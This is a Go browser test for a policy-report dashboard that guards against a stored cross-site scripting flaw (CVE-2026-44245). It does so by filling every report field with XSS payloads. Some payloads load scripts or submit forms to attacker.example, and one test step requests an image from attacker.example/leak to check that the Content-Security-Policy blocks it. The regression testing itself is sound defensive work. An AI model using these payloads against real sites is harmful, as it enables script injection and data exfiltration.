package dashboard

import (
	"fmt"
	"strings"
	"testing"
	"time"

	policyreport "ephor.invalid/ephor/api/policyreport/v1alpha2"
	"ephor.invalid/ephor/e2e/browser"
)

// attacks are texts that run, load or break something if the page treats text as markup, code or an address.
var attacks = []string{
	`<script>window.attacked = "script"</script>`,
	`<img src=x onerror="window.attacked='img'">`,
	`<svg onload="window.attacked='svg'"></svg>`,
	`"><iframe srcdoc="<script>parent.attacked='frame'</script>"></iframe>`,
	`javascript:window.attacked='address'`,
	`<a href="javascript:window.attacked='link'" id="attacked-link" autofocus onfocus="window.attacked='focus'">click</a>`,
	`<style>body{display:none !important}</style>`,
	`</textarea></select></table></script><script src="https://attacker.example/x.js"></script>`,
	`{{constructor.constructor("window.attacked='template'")()}} ${window.attacked="literal"}`,
	`' onmouseover='window.attacked="mouse"`,
	`__proto__`, `constructor`, `hasOwnProperty`,
	"\u202eright to left, \u0007 and a bell",
	`<base href="https://attacker.example/"><form action="https://attacker.example/"><input name=id></form>`,
}

// S26 (CVE-2026-44245): stored cross-site scripting in a report's UI through the properties of results. Every field of a report that the
// page shows contains hostile text: policy, rule, category, source, message, names and values of properties, kinds and names of resources,
// severities, and invalid results.
func TestLessonS26HostileText(t *testing.T) {
	namespaces(t, "hostile")
	var objects []any
	for i, text := range attacks {
		r := result(text, text, "fail", "high", text+strings.Repeat(" ", 300)+text)
		r.Category, r.Source = text, text
		r.Properties = map[string]string{text: text, "process": text}
		plain := result("hostile-property", "rule", "fail", "low", "a short message")
		plain.Properties = map[string]string{"url": text, text: "value"}
		report := newReport("hostile", text, text, r, plain).(*policyreport.PolicyReport)
		report.Name = fmt.Sprint("hostile-", i)
		objects = append(objects, report)
	}
	// A ClusterRole may have such a name.
	objects = append(objects, newReport("", "ClusterRole", attacks[1], result("hostile-cluster", attacks[0], "warn", "", attacks[1])))
	objects[len(objects)-1].(*policyreport.ClusterPolicyReport).Name = "hostile"
	apply(t, objects...)
	s := serve(t, false, nil)
	ready(t, s.url, "", func(n int) bool { return n >= len(objects) })

	b := open(t, s.url+"#namespace=hostile")
	b.Until(loaded)
	// All rows of all results are shown, and all details are open.
	b.Until(`const more = document.querySelector("#more"); if (!more.hidden && !more.disabled) more.click();
		for (const rest of document.querySelectorAll("#policies > button.quiet")) if (rest.textContent.startsWith("Show all")) rest.click();
		document.querySelectorAll("details").forEach((d) => { d.open = true });
		return more.hidden && document.querySelectorAll("#results tbody tr").length === arguments[0]`, 2*len(attacks))
	shown := func(selector string) (texts []string) {
		b.Script(&texts, `return [...document.querySelectorAll(arguments[0])].map((e) => e.textContent)`, selector)
		return texts
	}
	for _, where := range []string{
		"#policies tbody th button", "#results tbody td:nth-child(2) button", "#results tbody td:nth-child(3) button", "#results .message.whole",
		"#results .properties dt", "#results .properties dd", "#filter-policy option", "#results tbody td:nth-child(3) .sub",
	} {
		all := strings.Join(shown(where), "\n")
		for _, text := range attacks {
			if !strings.Contains(all, text) {
				t.Errorf("%s does not show %q as it is", where, text)
			}
		}
	}
	harmless(t, b, "at first")
	// Texts are used in every filter, and in the address.
	for i := range attacks {
		b.Script(nil, `[...document.querySelectorAll("#results tbody td:nth-child(3) button")].filter((e) => e.textContent === arguments[0]).at(0)?.click()`, attacks[i])
		time.Sleep(20 * time.Millisecond)
		b.Until(loaded)
	}
	harmless(t, b, "filtered")
	b.Open(s.url + "#policy=" + "%3Cimg%20src=x%20onerror=%22window.attacked='hash'%22%3E&resource=%3Cscript%3E")
	b.Until(loaded)
	b.Open(s.url + "#scope=x&namespace=" + strings.Repeat("%3Cb%3E", 50))
	b.Until(loaded)
	harmless(t, b, "through the address")
	calm(t, b)

	// The Content-Security-Policy prevents scripts from writing HTML of such texts.
	var refused string
	b.Script(&refused, `try { document.querySelector("#status").innerHTML = "<b>x</b>"; return "made" } catch (e) { return e.name }`)
	if refused != "TypeError" {
		t.Errorf("HTML from text is %s", refused)
	}
	b.Script(nil, `const s = document.createElement("img"); s.src = "https://attacker.example/leak"; document.body.append(s)`)
	b.Until(`return document.querySelector("main ~ img").complete`)
	if console := fmt.Sprint(b.Console()); !strings.Contains(console, "attacker.example/leak' violates the following Content Security Policy directive") {
		t.Errorf("an image from elsewhere is asked for; the console says %s", console)
	}
}

// harmless fails the test if a shown text was executed, or became an element.
func harmless(t *testing.T, b *browser.Browser, when string) {
	t.Helper()
	var attacked any
	b.Script(&attacked, `return window.attacked ?? null`)
	if attacked != nil {
		t.Errorf("%s: a script of a text ran: %v", when, attacked)
	}
	var strangers []string
	b.Script(&strangers, `return [...document.querySelectorAll("script:not([src='app.js']), iframe, img:not([src='icon.svg']), a:not(.skip-link):not(.page-link), style, base, object, embed, form:not(#login):not(#filters):not(#exception-filters):not(#decision-filters):not(#impact-form), link:not([href='style.css']):not([href='icon.svg']), [onclick], [onerror], [onload], [onfocus], [onmouseover], [srcdoc]")].map((e) => e.outerHTML)`)
	if len(strangers) > 0 {
		t.Errorf("%s: there are elements of texts: %q", when, strangers)
	}
}
